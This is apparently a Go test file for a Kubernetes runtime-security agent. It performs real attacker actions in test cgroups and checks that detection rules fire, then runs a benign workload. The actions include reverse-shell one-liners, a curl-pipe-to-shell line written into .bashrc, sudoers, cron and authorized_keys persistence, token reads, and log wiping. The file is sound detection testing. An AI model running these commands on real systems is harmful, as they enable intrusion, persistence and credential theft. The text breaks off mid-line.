package ebpfreceiver

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/component/componenttest"
	"go.opentelemetry.io/collector/consumer"
	"go.opentelemetry.io/collector/consumer/consumertest"
	"go.opentelemetry.io/collector/pdata/plog"
	"go.opentelemetry.io/collector/processor/processortest"
	"golang.org/x/sys/unix"

	"github.com/otelcol-k8ssec/otelcol-k8ssec/internal/rules"
	"github.com/otelcol-k8ssec/otelcol-k8ssec/internal/testenv"
	"github.com/otelcol-k8ssec/otelcol-k8ssec/processor/securityrulesprocessor"
)

// The real-action attack suite: each runtime detection's action done for real,
// by a process in its own container-named cgroup, seen by the ebpf receiver and
// judged by the security_rules processor with the default runtime pack, as on
// the agent. Like falcosecurity/event-generator's actions, written for this
// project. A benign run (a shell-script entrypoint started as the container's
// init, a compiler, nginx under load from curl, a client-go-like controller
// reading its token and dialing the API server) must raise nothing above low.

// attackHelpers are the helper actions this suite adds (helper_test.go runs them).
var attackHelpers = map[string]func(args []string) error{
	// spawn MODE CGROUP ARGV...: a container runtime's shim starting a process in
	// the container's cgroup, as the container's init (MODE init: pid 1 of a new
	// pid namespace) or as an exec into it (MODE exec).
	"spawn": func(args []string) error {
		cg, err := os.Open(args[1])
		if err != nil {
			return err
		}
		defer cg.Close()
		cmd := exec.Command(args[2], args[3:]...)
		cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr
		cmd.Env = slices.DeleteFunc(os.Environ(), func(e string) bool { return strings.HasPrefix(e, helperEnv+"=") })
		cmd.SysProcAttr = &syscall.SysProcAttr{UseCgroupFD: true, CgroupFD: int(cg.Fd())}
		if args[0] == "init" {
			cmd.SysProcAttr.Cloneflags = syscall.CLONE_NEWPID
		}
		return cmd.Run()
	},
	// child ARGV...: a server (named by the copy of this binary that runs it) starting a child.
	"child": func(args []string) error {
		cmd := exec.Command(args[0], args[1:]...)
		cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
		_ = cmd.Run() // the child ran: its exit status is not the point
		return nil
	},
	// open PATH r|w: open and close.
	"open": func(args []string) error {
		flags := unix.O_RDONLY
		if args[1] == "w" {
			flags = unix.O_WRONLY
		}
		fd, err := unix.Open(args[0], flags|unix.O_CLOEXEC, 0)
		if err != nil {
			return err
		}
		return unix.Close(fd)
	},
	// regain-root: drop to uid 1000 keeping a saved uid of 0, then take root back.
	"regain-root": func([]string) error {
		if err := syscall.Setresuid(1000, 1000, 0); err != nil {
			return err
		}
		return syscall.Setresuid(0, 0, 0)
	},
	// ptrace: attach to a child and leave at once (as event-generator's
	// PtraceAttachedToProcess does: no wait for the stop, no detach that succeeds).
	"ptrace": func([]string) error {
		runtime.LockOSThread()
		child := exec.Command("/bin/sleep", "5")
		if err := child.Start(); err != nil {
			return err
		}
		defer func() { _ = child.Process.Kill(); _ = child.Wait() }()
		defer func() { _ = unix.PtraceDetach(child.Process.Pid) }()
		return unix.PtraceAttach(child.Process.Pid)
	},
	// connect HOST:PORT: a TCP connect, as any client makes one (non-blocking, with a timeout).
	"connect": func(args []string) error {
		if c, err := net.DialTimeout("tcp", args[0], 300*time.Millisecond); err == nil {
			c.Close()
		}
		return nil
	},
	// packet: an AF_PACKET socket (a sniffer's).
	"packet": func([]string) error {
		fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0x0300 /* htons(ETH_P_ALL) */)
		if err != nil {
			return err
		}
		return unix.Close(fd)
	},
	// unshare: a new mount namespace.
	"unshare": func([]string) error {
		runtime.LockOSThread() // the thread stays in the new namespace: never reused
		return unix.Unshare(unix.CLONE_NEWNS)
	},
	// client TOKEN ADDR: a client-go-like controller: reads its token, dials the API server.
	"client": func(args []string) error {
		if args[0] != "" {
			if _, err := os.ReadFile(args[0]); err != nil {
				return err
			}
		}
		if c, err := net.DialTimeout("tcp", args[1], 300*time.Millisecond); err == nil {
			c.Close()
		}
		return nil
	},
}

// attackAction is one action and the rules it must raise.
type attackAction struct {
	name  string
	rules []string
	run   func(t *testing.T, s *attackSuite, cg *testCgroup)
}

// attackSuite is what the actions share.
type attackSuite struct {
	root     *testCgroup // every container's cgroup is below it; the receiver watches only it
	shimCg   *testCgroup // the "host" cgroup the runtime's shim runs in
	bin      string      // a directory of copies of the test binary named as programs, made before the receiver started
	rootfs   string      // a container's root filesystem (busybox), for actions that write its files
	listener string      // 127.0.0.1:port, answering every connection with "exit"
	podUID   string
}

// containerCgroup makes a cgroup named as the kubelet and containerd name a
// pod's container, below the suite's root.
func (s *attackSuite) containerCgroup(t *testing.T, containerID string) *testCgroup {
	t.Helper()
	slice := filepath.Join(s.root.path, "kubepods-besteffort-pod"+strings.ReplaceAll(s.podUID, "-", "_")+".slice")
	if _, err := os.Stat(slice); os.IsNotExist(err) {
		require.NoError(t, os.Mkdir(slice, 0o755))
		t.Cleanup(func() { // after every container's, below
			require.Eventually(t, func() bool { return os.Remove(slice) == nil }, 5*time.Second, 20*time.Millisecond, "rmdir %s", slice)
		})
	}
	dir := filepath.Join(slice, "cri-containerd-"+containerID+".scope")
	require.NoError(t, os.Mkdir(dir, 0o755))
	fd, err := os.Open(dir)
	require.NoError(t, err)
	t.Cleanup(func() {
		fd.Close()
		// Processes a test left behind (nginx's workers, a sleeping child) must not keep it.
		if b, err := os.ReadFile(filepath.Join(dir, "cgroup.procs")); err == nil {
			for _, f := range strings.Fields(string(b)) {
				if pid, err := strconv.Atoi(f); err == nil {
					_ = unix.Kill(pid, unix.SIGKILL)
				}
			}
		}
		// (runc removes the cgroup it ran a container in itself.)
		require.Eventually(t, func() bool { err := os.Remove(dir); return err == nil || os.IsNotExist(err) }, 5*time.Second, 20*time.Millisecond, "rmdir %s", dir)
	})
	return &testCgroup{path: dir, fd: fd}
}

// run runs argv in cg and waits at most 10 s; many actions fail after doing
// what they are judged on (a connect that is refused, a shell with no input).
func run(t *testing.T, cg *testCgroup, argv ...string) {
	t.Helper()
	cmd := cg.command(argv[0], argv[1:]...)
	runCmd(t, cmd)
}

func runCmd(t *testing.T, cmd *exec.Cmd) {
	t.Helper()
	done := make(chan error, 1)
	out := new(strings.Builder)
	cmd.Stdout, cmd.Stderr = out, out
	require.NoError(t, cmd.Start(), "%v", cmd.Args)
	go func() { done <- cmd.Wait() }()
	select {
	case err := <-done:
		if err != nil {
			t.Logf("%v: %v: %s", cmd.Args, err, out)
		}
	case <-time.After(10 * time.Second):
		_ = cmd.Process.Kill()
		<-done
		t.Logf("%v: killed after 10 s: %s", cmd.Args, out)
	}
}

// helper runs the test binary's helper name in cg.
func helper(t *testing.T, cg *testCgroup, name string, args ...string) {
	t.Helper()
	runCmd(t, helperCommand(cg, name, args...))
}

// named runs the copy of the test binary named name, as helper helperName.
func (s *attackSuite) named(t *testing.T, cg *testCgroup, name, helperName string, args ...string) {
	t.Helper()
	cmd := cg.command(filepath.Join(s.bin, name), args...)
	cmd.Env = append(os.Environ(), helperEnv+"="+helperName)
	runCmd(t, cmd)
}

// inRootfs runs argv under the suite's root filesystem (chroot), as a
// container's process sees its own files.
func (s *attackSuite) inRootfs(t *testing.T, cg *testCgroup, argv ...string) {
	t.Helper()
	helper(t, cg, "chroot-exec", append([]string{s.rootfs}, argv...)...)
}

func attackActions() []attackAction {
	return []attackAction{
		{"kubectl exec -it -- sh", []string{"Shell spawned in a container"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			// The shim in a session whose controlling terminal is a pty, as runc exec -t makes it.
			testenv.StartTerminal(t, shimCommand(s, "exec", cg.path, "/bin/sh", "-c", "id >/dev/null"))
		}},
		{"kubectl exec -- sh -c", []string{"Shell run in a container by an exec without a terminal"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			runCmd(t, shimCommand(s, "exec", cg.path, "/bin/sh", "-c", "id >/dev/null"))
		}},
		{"bash -i >& /dev/tcp", []string{"Reverse shell command line", "Network connection on standard input or output"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			host, port, _ := net.SplitHostPort(s.listener)
			run(t, cg, "/bin/bash", "-c", "bash -i >& /dev/tcp/"+host+"/"+port+" 0>&1")
		}},
		{"perl socket one-liner", []string{"Reverse shell command line", "Network connection on standard input or output"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			host, port, _ := net.SplitHostPort(s.listener)
			run(t, cg, "/usr/bin/perl", "-e", `use Socket;$i="`+host+`";$p=`+port+`;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));`+
				`if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};`)
		}},
		{"busybox nc -e", []string{"Reverse shell command line"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			host, port, _ := net.SplitHostPort(s.listener)
			run(t, cg, busybox(t), "nc", host, port, "-e", "/bin/sh")
		}},
		{"awk /inet/tcp", []string{"Reverse shell command line"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			host, port, _ := net.SplitHostPort(s.listener)
			run(t, cg, "/usr/bin/awk", `BEGIN { s = "/inet/tcp/0/`+host+`/`+port+`"; print "id" > s; close(s) }`)
		}},
		{"web server spawns a shell", []string{"Shell spawned by a web or database server"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			s.named(t, cg, "nginx", "child", "/bin/sh", "-c", "id")
		}},
		{"interactive shell as www-data", []string{"Interactive shell of a system user"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			cmd := cg.command("/bin/sh", "-i")
			cmd.SysProcAttr.Credential = &syscall.Credential{Uid: 33, Gid: 33}
			runCmd(t, cmd)
		}},
		{"cloud metadata", []string{"Cloud metadata service contacted from a container"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			helper(t, cg, "connect", "169.254.169.254:80")
		}},
		{"API server by curl", []string{"Kubernetes API contacted by a shell or command-line tool in a container"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			run(t, cg, "/usr/bin/curl", "-s", "-k", "-m", "1", "https://10.96.0.1/api")
		}},
		{"service-account token read by cat", []string{"Service-account token read by a shell or file tool"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			s.inRootfs(t, cg, "/bin/cat", "/run/secrets/kubernetes.io/serviceaccount/token")
		}},
		{"authorized_keys", []string{"SSH authorized_keys modified"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			s.inRootfs(t, cg, "/bin/sh", "-c", "echo 'ssh-ed25519 AAAAC3Nza k8ssec' >> /root/.ssh/authorized_keys")
		}},
		{"bashrc", []string{"Shell configuration file modified"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			s.inRootfs(t, cg, "/bin/sh", "-c", "echo 'curl -s http://203.0.113.7/x | sh' >> /root/.bashrc")
		}},
		{"cron", []string{"Scheduled task created or modified"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			s.inRootfs(t, cg, "/bin/sh", "-c", "echo '* * * * * root /tmp/x' > /etc/cron.d/k8ssec")
		}},
		{"sudoers", []string{"Sudoers modified"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			s.inRootfs(t, cg, "/bin/sh", "-c", "echo 'x ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/k8ssec")
		}},
		{"ld.so.preload", []string{"Dynamic linker preload configured"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			s.inRootfs(t, cg, "/bin/sh", "-c", "echo /lib/x.so > /etc/ld.so.preload")
		}},
		{"LD_PRELOAD on a command line", []string{"Preload library on a command line"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			run(t, cg, "/usr/bin/env", "LD_PRELOAD=/nonexistent/k8ssec.so", "/bin/true")
		}},
		{"user added", []string{"User management program run in a container"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			s.inRootfs(t, cg, "/usr/sbin/adduser", "-D", "-H", "k8ssec")
		}},
		{"history deleted", []string{"Shell history deleted or truncated"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			s.inRootfs(t, cg, "/bin/rm", "-f", "/root/.bash_history")
		}},
		{"log cleared", []string{"Log files cleared"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			s.inRootfs(t, cg, "/bin/sh", "-c", ": > /var/log/auth.log")
		}},
		{"log deleted", []string{"Log file deleted"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			s.inRootfs(t, cg, "/bin/rm", "-f", "/var/log/wtmp")
		}},
		{"bulk removal", []string{"Bulk data removal"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			f := filepath.Join(t.TempDir(), "db.sqlite")
			require.NoError(t, os.WriteFile(f, []byte("data"), 0o600))
			run(t, cg, "/usr/bin/shred", "-u", f)
		}},
		{"setuid bit", []string{"Setuid or setgid bit set"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			s.inRootfs(t, cg, "/bin/chmod", "4755", "/usr/local/bin/rootsh")
		}},
		{"binary dropped into /usr/local/bin", []string{"Write below a binary or boot directory"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			s.inRootfs(t, cg, "/bin/cp", "/bin/cat", "/usr/local/bin/kubectl")
		}},
		{"symlink to /etc/shadow", []string{"Link to a sensitive file"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			s.inRootfs(t, cg, "/bin/ln", "-s", "/etc/shadow", "/etc/k8ssec-shadow")
		}},
		{"root regained", []string{"Root regained by a non-root process"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			helper(t, cg, "regain-root")
		}},
		{"credential search", []string{"Search for credentials"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			run(t, cg, "/usr/bin/find", t.TempDir(), "-name", "id_rsa")
		}},
		{"ssh to port other than 22", []string{"SSH to a non-standard port"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			_, port, _ := net.SplitHostPort(s.listener)
			run(t, cg, "/usr/bin/ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
				"-o", "ConnectTimeout=2", "-p", port, "k8ssec@127.0.0.1", "true")
		}},
		{"scp", []string{"Remote file copy tool run in a container"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			_, port, _ := net.SplitHostPort(s.listener)
			run(t, cg, "/usr/bin/scp", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
				"-o", "ConnectTimeout=2", "-P", port, "/etc/hostname", "k8ssec@127.0.0.1:/tmp/x")
		}},
		{"packet socket", []string{"Raw or packet socket opened in a container"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			helper(t, cg, "packet")
		}},
		{"core_pattern opened for writing", []string{"Container escape file opened for writing"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			helper(t, cg, "open", "/proc/sys/kernel/core_pattern", "w")
		}},
		{"another process's environ", []string{"Memory or environment of another process read"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			helper(t, cg, "open", "/proc/"+strconv.Itoa(os.Getpid())+"/environ", "r")
		}},
		{"ASLR setting read", []string{"ASLR setting read or changed in a container"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			run(t, cg, "/bin/cat", "/proc/sys/kernel/randomize_va_space")
		}},
		{"ptrace attach", []string{"Process attached to another with ptrace"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			helper(t, cg, "ptrace")
		}},
		{"execution from /dev/shm", []string{"Executable run from a writable temporary directory", "Drifted binary executed in a container"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			p := fmt.Sprintf("/dev/shm/k8ssec-%d-kworker", os.Getpid())
			copyFile(t, "/bin/true", p)
			t.Cleanup(func() { os.Remove(p) })
			run(t, cg, p)
		}},
		{"script run from /dev/shm", []string{"Executable run from a writable temporary directory"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			p := fmt.Sprintf("/dev/shm/k8ssec-%d-x.sh", os.Getpid())
			require.NoError(t, os.WriteFile(p, []byte("#!/bin/sh\nexit 0\n"), 0o755))
			t.Cleanup(func() { os.Remove(p) })
			run(t, cg, p)
		}},
		{"fileless memfd exec", []string{"Fileless execution from memory"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			helper(t, cg, "memfd-exec")
		}},
		{"unshare a mount namespace", []string{"Mount or namespace change in a container"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			helper(t, cg, "unshare")
		}},
		{"debugfs", []string{"Disk or filesystem tool run in a container"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			run(t, cg, "/usr/sbin/debugfs", "-R", "stats", "/dev/null")
		}},
		{"raw disk read", []string{"Memory device opened in a container"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			s.inRootfs(t, cg, "/bin/head", "-c", "1", "/dev/sda")
		}},
		{"package manager", []string{"Package manager run in a container"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			run(t, cg, "/usr/bin/dpkg", "--version")
		}},
		{"miner command line", []string{"Crypto miner started"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			run(t, cg, "/bin/true", "-o", "stratum+tcp://pool.example:3333", "--donate-level", "1")
		}},
		{"mining pool port", []string{"Connection to a mining pool port"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			helper(t, cg, "connect", "203.0.113.7:3333")
		}},
		{"breakout reconnaissance tool", []string{"Reconnaissance or credential tool run"}, func(t *testing.T, s *attackSuite, cg *testCgroup) {
			run(t, cg, filepath.Join(s.bin, "peirates"))
		}},
	}
}

// busybox is Debian's static busybox (busybox-static, which make test installs).
func busybox(t *testing.T) string {
	t.Helper()
	for _, p := range []string{"/bin/busybox", "/usr/bin/busybox"} {
		if _, err := os.Stat(p); err == nil {
			return p
		}
	}
	t.Fatal("busybox is not installed: apt-get install -y busybox-static (make test does)")
	return ""
}

// needTools fails (skips locally) when a program an action runs is missing.
func needTools(t *testing.T, paths ...string) {
	t.Helper()
	var missing []string
	for _, p := range paths {
		if _, err := os.Stat(p); err != nil {
			missing = append(missing, p)
		}
	}
	testenv.Require(t, len(missing) == 0, fmt.Sprintf("the attack suite runs real programs; missing %v (hack/install-deps.sh test installs them)", missing))
}

// makeRootfs is a container's root filesystem: busybox, hard-linked under the
// names the actions run (so the kernel names each program as the applet), and
// the files the actions read and change.
func makeRootfs(t *testing.T, dir string) {
	t.Helper()
	for _, d := range []string{"bin", "usr/sbin", "usr/local/bin", "etc/cron.d", "etc/sudoers.d", "root/.ssh", "var/log", "dev", "tmp",
		"run/secrets/kubernetes.io/serviceaccount"} {
		require.NoError(t, os.MkdirAll(filepath.Join(dir, d), 0o755))
	}
	bb := filepath.Join(dir, "bin/busybox")
	copyFile(t, busybox(t), bb)
	for _, applet := range []string{"bin/sh", "bin/cat", "bin/rm", "bin/chmod", "bin/cp", "bin/ln", "bin/head", "usr/sbin/adduser"} {
		require.NoError(t, os.Link(bb, filepath.Join(dir, applet)))
	}
	for name, content := range map[string]string{
		"etc/passwd": "root:x:0:0:root:/root:/bin/sh\n", "etc/group": "root:x:0:\n", "etc/shadow": "root:*:19000:0:99999:7:::\n",
		"root/.bash_history": "ls\n", "var/log/auth.log": "Dec  6 sshd[1]: Accepted publickey for root\n", "var/log/wtmp": "",
		"usr/local/bin/rootsh":                           "#!/bin/sh\n",
		"run/secrets/kubernetes.io/serviceaccount/token": "eyJhbGciOiJSUzI1NiJ9.k8ssec.test",
	} {
		require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644))
	}
	// A disk as a privileged container sees the node's: a block device node
	// (the loop driver's first device: always there, harmless to read).
	require.NoError(t, unix.Mknod(filepath.Join(dir, "dev/sda"), unix.S_IFBLK|0o600, int(unix.Mkdev(7, 0))))
}

// containerID names a container after its action: 64 hex digits, as containerd's.
func containerID(name string) string {
	sum := sha256.Sum256([]byte(name))
	return hex.EncodeToString(sum[:])
}

// alertsByContainer is each container's alerts: rule name -> severity.
func alertsByContainer(sink *consumertest.LogsSink) map[string]map[string]string {
	out := map[string]map[string]string{}
	for _, ld := range sink.AllLogs() {
		for _, e := range events(ld) {
			if e.EventName() != rules.AlertEventName {
				continue
			}
			id, _ := e.attr("container.id")
			name, _ := e.attr("security_rule.name")
			if id.Str() == "" {
				continue
			}
			if out[id.Str()] == nil {
				out[id.Str()] = map[string]string{}
			}
			out[id.Str()][name.Str()] = e.SeverityText()
		}
	}
	return out
}

// startPipeline is the agent's pipeline: the ebpf receiver, watching root's
// cgroup tree, into security_rules with the default runtime pack. It returns
// the alerts and, apart, the kernel's records.
func startPipeline(t *testing.T, root *testCgroup) (alerts, kernel *consumertest.LogsSink) {
	t.Helper()
	alerts, kernel = new(consumertest.LogsSink), new(consumertest.LogsSink)
	pf := securityrulesprocessor.NewFactory()
	pcfg := pf.CreateDefaultConfig().(*securityrulesprocessor.Config)
	pcfg.Rules, pcfg.Mode = []string{"runtime"}, securityrulesprocessor.ModeAlerts
	require.NoError(t, pcfg.Validate())
	proc, err := pf.CreateLogs(context.Background(), processortest.NewNopSettings(pf.Type()), pcfg, alerts)
	require.NoError(t, err)
	require.NoError(t, proc.Start(context.Background(), componenttest.NewNopHost()))
	t.Cleanup(func() { require.NoError(t, proc.Shutdown(context.Background())) })
	both, err := consumer.NewLogs(func(ctx context.Context, ld plog.Logs) error {
		cp := plog.NewLogs()
		ld.CopyTo(cp)
		_ = kernel.ConsumeLogs(ctx, cp)
		return proc.ConsumeLogs(ctx, ld)
	})
	require.NoError(t, err)
	rcv := startReceiver(t, newTelemetry(t), both, func(c *Config) {
		c.CgroupPath = root.path
		c.Kubernetes.AuthType = authNone
		c.RingBufferSize = 16 << 20
	})
	t.Cleanup(func() { require.NoError(t, rcv.Shutdown(context.Background())) })
	return alerts, kernel
}

// programCopies puts copies of the test binary named as the programs the
// suite plays (a container runtime's shim, nginx, a controller) and of
// /bin/true as a breakout tool into a directory outside the writable
// temporary ones. Made before the receiver starts, so that they are the node's
// files, not drift.
func programCopies(t *testing.T) string {
	t.Helper()
	dir, err := os.MkdirTemp("/run", "k8ssec-attack-")
	require.NoError(t, err)
	t.Cleanup(func() { os.RemoveAll(dir) })
	exe, err := os.Executable()
	require.NoError(t, err)
	for _, name := range []string{"containerd-shim-runc-v2", "nginx", "kube-controller"} {
		copyFile(t, exe, filepath.Join(dir, name))
	}
	copyFile(t, "/bin/true", filepath.Join(dir, "peirates"))
	return dir
}

// listen answers every connection with "exit" (a reverse shell's operator
// who leaves at once) until the test ends.
func listen(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				_, _ = c.Write([]byte("exit\n"))
				time.Sleep(500 * time.Millisecond)
				c.Close()
			}()
		}
	}()
	return ln.Addr().String()
}

func TestAttackSuite(t *testing.T) {
	requireRoot(t)
	needTools(t, "/usr/bin/perl", "/usr/bin/awk", "/usr/bin/curl", "/usr/bin/ssh", "/usr/bin/scp", "/usr/sbin/debugfs",
		"/usr/bin/shred", "/usr/bin/find", "/usr/bin/dpkg", "/usr/bin/env", "/bin/bash")
	s := &attackSuite{root: makeCgroup(t), bin: programCopies(t), rootfs: t.TempDir(), listener: listen(t),
		podUID: "6b1c2d3e-4f50-4a61-8b72-9c8d0e1f2a3b"}
	makeRootfs(t, s.rootfs)
	shim := filepath.Join(s.root.path, "system-containerd")
	require.NoError(t, os.Mkdir(shim, 0o755))
	shimFd, err := os.Open(shim)
	require.NoError(t, err)
	t.Cleanup(func() {
		shimFd.Close()
		require.Eventually(t, func() bool { return os.Remove(shim) == nil }, 5*time.Second, 20*time.Millisecond)
	})
	s.shimCg = &testCgroup{path: shim, fd: shimFd}
	alerts, _ := startPipeline(t, s.root)

	actions := attackActions()
	for _, a := range actions {
		a.run(t, s, s.containerCgroup(t, containerID(a.name)))
	}

	missing := func() []string {
		got := alertsByContainer(alerts)
		var out []string
		for _, a := range actions {
			for _, r := range a.rules {
				if _, ok := got[containerID(a.name)][r]; !ok {
					out = append(out, a.name+": "+r)
				}
			}
		}
		return out
	}
	// Records reach the processor within ~125 ms of the action; allow for a busy machine.
	deadline := time.Now().Add(15 * time.Second)
	for len(missing()) > 0 && time.Now().Before(deadline) {
		time.Sleep(100 * time.Millisecond)
	}
	got := alertsByContainer(alerts)
	detected := 0
	for _, a := range actions {
		fired := got[containerID(a.name)]
		ok := true
		for _, r := range a.rules {
			if _, hit := fired[r]; !hit {
				ok = false
			}
		}
		if ok {
			detected++
		}
		names := make([]string, 0, len(fired))
		for n := range fired {
			names = append(names, n)
		}
		slices.Sort(names)
		t.Logf("%-36s detected=%-5v alerts=%q", a.name, ok, names)
		for _, r := range a.rules {
			assert.Contains(t, fired, r, "action %q raised %q", a.name, r)
		}
	}
	t.Logf("actions detected: %d of %d", detected, len(actions))
}

// The benign run: what an ordinary workload does, in containers, through the
// same pipeline. Nothing above low may fire; the low-severity inventory rules
// (a controller's token read and API connection) must, or the run saw nothing.
func TestBenignWorkloadRaisesNothingAboveLow(t *testing.T) {
	requireRoot(t)
	needTools(t, "/usr/bin/curl")
	cc := ""
	for _, c := range []string{"cc", "gcc", "clang"} { // make test installs clang
		if p, err := exec.LookPath(c); err == nil {
			cc = p
			break
		}
	}
	testenv.Require(t, cc != "", "the benign run builds C: no cc, gcc or clang (hack/install-deps.sh test installs clang)")
	root := makeCgroup(t)
	bin := programCopies(t)
	s := &attackSuite{root: root, bin: bin, podUID: "0a1b2c3d-4e5f-4061-8273-94a5b6c7d8e9"}
	shim := filepath.Join(root.path, "system-containerd")
	require.NoError(t, os.Mkdir(shim, 0o755))
	shimFd, err := os.Open(shim)
	require.NoError(t, err)
	t.Cleanup(func() {
		shimFd.Close()
		require.Eventually(t, func() bool { return os.Remove(shim) == nil }, 5*time.Second, 20*time.Millisecond)
	})
	s.shimCg = &testCgroup{path: shim, fd: shimFd}

	// A client's token where Kubernetes mounts it, unless the machine has one.
	token := "/run/secrets/kubernetes.io/serviceaccount/token"
	if _, err := os.Stat(token); os.IsNotExist(err) {
		require.NoError(t, os.MkdirAll(filepath.Dir(token), 0o755))
		require.NoError(t, os.WriteFile(token, []byte("eyJhbGciOiJSUzI1NiJ9.benign"), 0o600))
		t.Cleanup(func() { os.RemoveAll("/run/secrets/kubernetes.io") })
	}
	work := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(work, "hello.c"), []byte("#include <stdio.h>\nint main(void) { puts(\"hello\"); return 0; } /* TODO */\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(work, "index.html"), []byte("<h1>shop</h1>\n"), 0o644))
	port := testenv.FreePort(t)
	require.NoError(t, os.WriteFile(filepath.Join(work, "nginx.conf"), []byte(fmt.Sprintf(`
daemon on;
worker_processes 2;
user root;
pid %[1]s/nginx.pid;
error_log %[1]s/error.log;
events { worker_connections 64; }
http {
    access_log %[1]s/access.log;
    client_body_temp_path %[1]s/body;
    proxy_temp_path %[1]s/proxy;
    fastcgi_temp_path %[1]s/fastcgi;
    uwsgi_temp_path %[1]s/uwsgi;
    scgi_temp_path %[1]s/scgi;
    server { listen 127.0.0.1:%[2]d; root %[1]s; }
}
`, work, port)), 0o644))
	// The entrypoint: a shell script run as the container's init, that runs
	// its own `sh -c`, reads files, builds, serves and loads a web server,
	// and starts a controller.
	entrypoint := filepath.Join(work, "docker-entrypoint.sh")
	require.NoError(t, os.WriteFile(entrypoint, []byte(fmt.Sprintf(`#!/bin/sh
set -e
W=%[1]s
sh -c 'echo starting' >/dev/null
cat /etc/os-release /etc/hostname >/dev/null
ls /usr/bin | head -n 3 >/dev/null
grep -rl TODO "$W" >/dev/null
grep -q '^password' "$W/nginx.conf" || true
find "$W" -name '*.c' >/dev/null
bash -c "echo > /dev/tcp/127.0.0.1/%[2]d" 2>/dev/null || true # wait-for, before nginx is up
%[5]s -O2 -c -o "$W/hello.o" "$W/hello.c"
%[5]s -o "$W/hello" "$W/hello.o"
/usr/sbin/nginx -e "$W/error.log" -p "$W" -c "$W/nginx.conf"
until bash -c "echo > /dev/tcp/127.0.0.1/%[2]d"; do sleep 0.1; done # wait-for, as init containers do
i=0
while [ $i -lt 40 ]; do curl -fsS -o /dev/null http://127.0.0.1:%[2]d/index.html; i=$((i+1)); done
kill -QUIT "$(cat "$W/nginx.pid")"
K8SSEC_EBPF_TEST_HELPER=client %[3]s/kube-controller %[4]s 10.96.0.1:443
`, work, port, bin, token, cc)), 0o755))

	alerts, kernel := startPipeline(t, root)
	cg := s.containerCgroup(t, containerID("benign entrypoint"))
	cmd := shimCommand(s, "init", cg.path, "/bin/sh", entrypoint)
	out, err := cmd.CombinedOutput()
	require.NoError(t, err, "entrypoint: %s", out)

	id := containerID("benign entrypoint")
	require.Eventually(t, func() bool {
		_, ok := alertsByContainer(alerts)[id]["Kubernetes API contacted from a container"]
		return ok
	}, 15*time.Second, 50*time.Millisecond, "the controller's API connection (low) was seen: the run was observed")
	time.Sleep(500 * time.Millisecond) // the last batch
	got := alertsByContainer(alerts)[id]
	t.Logf("benign alerts: %v", got)
	for rule, sev := range got {
		assert.Contains(t, []string{"info", "low"}, sev, "benign workload raised %q (%s)", rule, sev)
	}
	// The entrypoint was its container's init, as the kernel's record says.
	var entry []event
	for _, ld := range kernel.AllLogs() {
		for _, e := range events(ld) {
			if v, _ := e.attr("process.command_line"); e.EventName() == eventProcessExec && v.Str() == "/bin/sh "+entrypoint {
